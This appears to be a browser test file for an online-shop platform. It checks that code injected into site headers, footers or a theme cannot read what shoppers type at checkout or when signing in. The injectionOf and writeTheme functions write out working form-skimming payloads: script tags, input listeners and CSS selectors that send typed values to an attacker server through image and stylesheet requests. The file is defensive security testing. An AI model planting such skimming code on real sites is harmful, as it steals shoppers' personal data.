import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import type { BrowserContext, Page } from "@playwright/test";
import type { EndpointReply } from "@stoa/core/api/endpoint.ts";
import { CHECKOUT_PAGE_TEXTS } from "@stoa/core/checkout/checkout-page-texts.ts";
import type { listContent } from "@stoa/core/content/content-api.ts";
import { ACCOUNT_PAGE_TEXTS } from "@stoa/core/site-user/account-page-texts.ts";
import { SITE_USER_MESSAGES } from "@stoa/core/site-user/site-user-messages.ts";
import type { ShopApi } from "../owner/owner-api.ts";
import { ADA, openStore } from "../owner/shopper-api.ts";
import { runCommand } from "../server/command-line.ts";
import { expect, test } from "../server/stoa-server.ts";
import { addressField, expectLiveCheckout, ORDER_PAGE, placeButton, putIntoCart } from "./checkout-steps.ts";
import { startAttacker, type Attacker } from "./hostile/attacker.ts";
import { HOSTILE_SCRIPTS } from "./hostile/hostile-scripts.ts";

/* Nothing that is typed where money is paid reaches a script of the site, then or later. decision 095 */

/** In everything that is typed, and nowhere else. */
const MARK = "typedonly";
const HOLDER = "/about";
const LATER = "/shop";
const TYPED = {
  email: `${MARK}.mail@example.org`,
  firstName: `${MARK}-first`,
  lastName: `${MARK}-last`,
  address1: `12 ${MARK} street`,
  city: `${MARK}-city`,
};

/** What somebody can put on every page of a site without touching its theme. */
function injectionOf({ origin }: Attacker, place: string): string {
  return `<script src="${origin}/attack.js"></script>
<script>addEventListener("input", (e) => { new Image().src = "${origin}/taken?by=inline-${place}&what=" + encodeURIComponent(e.target.value); }, true);</script>
<img src="x" alt="" onerror="setInterval(() => { for (const one of document.querySelectorAll('input')) new Image().src = '${origin}/taken?by=image-${place}&what=' + encodeURIComponent(one.value); }, 300)">
<style>@import "${origin}/${place}.css"; input[name="email"][value*="@"] { background: url("${origin}/sheet-of-${place}") }</style>`;
}

async function inject({ studio }: ShopApi, attacker: Attacker): Promise<void> {
  const { items } = await studio.call<EndpointReply<typeof listContent>>("GET", "/api/studio/documents?kind=settings");
  const [settings] = items;
  const value = {
    header: injectionOf(attacker, "header"),
    footer: injectionOf(attacker, "footer"),
    item: injectionOf(attacker, "item"),
    lock: injectionOf(attacker, "lock"),
    orderConfirmation: injectionOf(attacker, "order"),
  };
  const patches = [{ op: "add", path: ["injection"], value }];
  const body = { version: settings?.version, label: "Add code", patches };
  await studio.call("PATCH", `/api/studio/documents/${settings?.id}`, body);
}

async function typeEverything(page: Page): Promise<void> {
  const refused: string[] = [];
  page.on("response", (reply) => {
    if (reply.request().method() === "PATCH" && !reply.ok()) refused.push(`${reply.status()} ${reply.url()}`);
  });
  await page.getByRole("textbox", { name: CHECKOUT_PAGE_TEXTS.checkoutEmail }).fill(TYPED.email);
  await addressField(page, "Country").selectOption(ADA.countryCode);
  await addressField(page, "First name").fill(TYPED.firstName);
  await addressField(page, "Last name").fill(TYPED.lastName);
  await page.getByRole("textbox", { name: "Address" }).first().fill(TYPED.address1);
  await addressField(page, "City").fill(TYPED.city);
  await addressField(page, "State").selectOption(ADA.state);
  await addressField(page, "ZIP code").fill(ADA.postalCode);
  await addressField(page, "ZIP code").blur();
  const later = page.getByText(CHECKOUT_PAGE_TEXTS.checkoutLater);
  await expect.poll(async () => [await later.count(), ...refused], { timeout: 30_000 }).toEqual([0]);
}

/** A script that starts checkouts too may win a start against the shopper, who is then led to the cart and goes on. */
async function reachCheckout(page: Page): Promise<void> {
  const heading = page.getByRole("heading", { name: CHECKOUT_PAGE_TEXTS.checkoutTitle, level: 1 });
  await expect(async () => {
    if (new URL(page.url()).pathname === "/cart")
      await page.getByRole("link", { name: "Checkout", exact: true }).click();
    await expect(heading).toBeVisible({ timeout: 3000 });
  }).toPass({ timeout: 30_000 });
  await expectLiveCheckout(page);
}

/** The page that stays open opens the checkout in a window, as a script may when its link is pressed. */
async function openWindow(context: BrowserContext, holder: Page): Promise<Page> {
  const [opened, handle] = await Promise.all([
    context.waitForEvent("page"),
    holder.evaluateHandle(() => window.open("/checkout", "shop")),
  ]);
  await reachCheckout(opened);
  await holder.evaluate((shopWindow) => Object.assign(window, { shopWindow }) && undefined, handle);
  return opened;
}

function stolenFrom({ taken }: Attacker): readonly string[] {
  return taken
    .filter(({ what }) => what.toLowerCase().includes(MARK))
    .map(({ by, what }) => `${by}: ${what.slice(0, 300)}`);
}

async function waitForRuns(attacker: Attacker, scripts: readonly string[], place: string): Promise<void> {
  const before = new Map(scripts.map((name) => [name, attacker.countRuns(name, place)]));
  const late = (): readonly string[] =>
    scripts.filter((name) => attacker.countRuns(name, place) < (before.get(name) ?? 0) + 2);
  await expect.poll(late, { message: `scripts that have not run twice on ${place}`, timeout: 30_000 }).toEqual([]);
}

type Visit = {
  readonly context: BrowserContext;
  readonly page: Page;
  readonly shop: ShopApi;
  readonly attacker: Attacker;
};

/** Types a wrong password, too, which stays on the page. */
async function tryToSignIn(page: Page, shop: ShopApi): Promise<void> {
  await page.goto(shop.url("/account"));
  await page.getByRole("textbox", { name: ACCOUNT_PAGE_TEXTS.accountEmail, exact: true }).fill(TYPED.email);
  const password = page.getByRole("textbox", { name: ACCOUNT_PAGE_TEXTS.accountPassword, exact: true });
  await password.fill(`${MARK}-password`);
  await password.press("Enter");
  await expect(page.getByText(SITE_USER_MESSAGES.wrongCredentials)).toBeVisible();
}

/** Buys in a window that a hostile page has opened, then goes on shopping in it. */
async function buyBesides({ context, page: holder, shop, attacker }: Visit, scripts: readonly string[]): Promise<void> {
  const [item] = await shop.addItems({ title: "Bowl" });
  await putIntoCart(holder, shop, item);
  await holder.goto(shop.url(HOLDER));
  const buying = await openWindow(context, holder);
  await typeEverything(buying);
  await waitForRuns(attacker, scripts, HOLDER);
  await buying.reload();
  await reachCheckout(buying);
  await expect(addressField(buying, "City")).toHaveValue(TYPED.city);
  await buying.goto(shop.url(LATER));
  await waitForRuns(attacker, scripts, LATER);
  await tryToSignIn(buying, shop);
  await buying.goto(shop.url("/checkout"));
  await reachCheckout(buying);
  await expect(addressField(buying, "City")).toHaveValue(TYPED.city);
  await placeButton(buying).click();
  await expect(buying).toHaveURL(ORDER_PAGE);
  await expect(buying.getByRole("status")).toContainText(TYPED.email);
  await buying.goto(shop.url(LATER));
  await waitForRuns(attacker, scripts, LATER);
  await waitForRuns(attacker, scripts, HOLDER);
}

test.describe.configure({ timeout: 180_000 });

for (const [group, scripts] of Object.entries(HOSTILE_SCRIPTS)) {
  test(`${group} learn nothing that is typed at the checkout`, async ({ context, page, shop }) => {
    const attacker = await startAttacker(scripts);
    try {
      await openStore(shop);
      await inject(shop, attacker);
      await buyBesides({ context, page, shop, attacker }, Object.keys(scripts));
      expect(stolenFrom(attacker)).toEqual([]);
      expect(attacker.taken.length).toBeGreaterThan(0);
    } finally {
      await attacker.stop();
    }
  });
}

/** A theme that carries the same in its own files, its checkout page among them. */
function writeTheme(attacker: Attacker): string {
  const folder = mkdtempSync(path.join(tmpdir(), "stoa-hostile-theme-"));
  const write = (name: string, text: string): void => {
    mkdirSync(path.dirname(path.join(folder, name)), { recursive: true });
    writeFileSync(path.join(folder, name), text);
  };
  const code = injectionOf(attacker, "theme");
  const conf = { name: "Hostile", author: { name: "M" }, layouts: { default: { name: "Default", regions: ["site"] } } };
  write(
    "template.conf",
    JSON.stringify({ ...conf, stylesheets: ["base.less"], navigations: [{ title: "Main", name: "mainNav" }] }),
  );
  write(
    "site.region",
    `<!doctype html><html><head>{squarespace-headers}${code}</head><body>{squarespace.main-content}{squarespace-footers}${code}</body></html>`,
  );
  for (const name of ["checkout", "account", "order-confirmed", "order-status"])
    write(`pages/${name}.page`, `${code}<form id="c"></form>`);
  write("blocks/product.block", `${code}<p>{title|html}</p>`);
  write(
    "styles/base.less",
    `@import "${attacker.origin}/theme.css"; @font-face { font-family: Stolen; src: url("${attacker.origin}/sheet-font") } input[name="email"][value*="@"] { font-family: Stolen; background: url("${attacker.origin}/sheet-of-theme") }`,
  );
  return folder;
}

test("a theme's own files learn nothing that is typed at the checkout", async ({ context, page, shop, stoa }) => {
  const scripts = HOSTILE_SCRIPTS["scripts that watch a page"] ?? {};
  const attacker = await startAttacker(scripts);
  const folder = writeTheme(attacker);
  try {
    await openStore(shop);
    await runCommand(stoa, "theme", "install", folder, "--site", shop.slug, "--force");
    await buyBesides({ context, page, shop, attacker }, Object.keys(scripts));
    expect(stolenFrom(attacker)).toEqual([]);
  } finally {
    rmSync(folder, { recursive: true });
    await attacker.stop();
  }
});

test("the same scripts do learn what is typed on a page of the site", async ({ page, shop }) => {
  const attacker = await startAttacker(HOSTILE_SCRIPTS["scripts that watch a page"] ?? {});
  try {
    await inject(shop, attacker);
    await shop.publish();
    await page.goto(shop.url("/"));
    await page.evaluate(() => document.body.append(document.createElement("textarea")));
    await page.locator("textarea").last().fill(`${MARK} here`);
    await expect.poll(() => stolenFrom(attacker).length).toBeGreaterThan(0);
  } finally {
    await attacker.stop();
  }
});
